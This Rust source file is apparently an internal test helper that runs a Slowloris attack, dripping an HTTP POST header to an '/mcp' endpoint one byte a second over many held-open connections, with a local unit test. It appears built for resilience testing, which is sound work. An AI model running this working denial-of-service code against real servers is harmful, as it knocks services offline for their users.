//! Many connections that never finish their request: a header byte a second each.

use std::io::Write;
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

#[derive(Debug)]
pub(crate) struct Slowloris {
    pub(crate) opened: usize,
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<()>>,
}

impl Slowloris {
    /// Opens as many of the connections as the server takes, and feeds them in the background.
    pub(crate) fn start(target: SocketAddr, connections: usize, lasts: Duration) -> Slowloris {
        let mut streams: Vec<TcpStream> =
            (0..connections).map_while(|_| TcpStream::connect_timeout(&target, Duration::from_secs(1)).ok()).collect();
        let opened = streams.len();
        let stop = Arc::new(AtomicBool::new(false));
        let stopped = Arc::clone(&stop);
        let thread = thread::spawn(move || {
            let request = format!("POST /mcp HTTP/1.1\r\nHost: {target}\r\nX-Slow: {}", "a".repeat(4096));
            let deadline = Instant::now() + lasts;
            for byte in request.as_bytes() {
                // The server may close them; that is its right.
                streams.retain_mut(|stream| stream.write_all(&[*byte]).is_ok());
                for _ in 0..10 {
                    if stopped.load(Ordering::SeqCst) || Instant::now() > deadline {
                        return;
                    }
                    thread::sleep(Duration::from_millis(100));
                }
            }
        });
        Slowloris { opened, stop, thread: Some(thread) }
    }

    /// Ends the attack and closes every connection.
    pub(crate) fn end(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(thread) = self.thread.take() {
            // It can only have ended, well or badly; its sockets are closed either way.
            let _ = thread.join();
        }
    }
}

impl Drop for Slowloris {
    fn drop(&mut self) {
        self.end();
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Read;
    use std::net::TcpListener;

    #[test]
    fn it_drips_and_hangs_up() {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let mut slow = Slowloris::start(listener.local_addr().unwrap(), 3, Duration::from_secs(5));
        assert_eq!(slow.opened, 3);
        let (mut stream, _) = listener.accept().unwrap();
        let mut bytes = [0; 64];
        assert_eq!(stream.read(&mut bytes).unwrap(), 1);
        slow.end();
        while stream.read(&mut bytes).unwrap_or(0) > 0 {}
    }
}
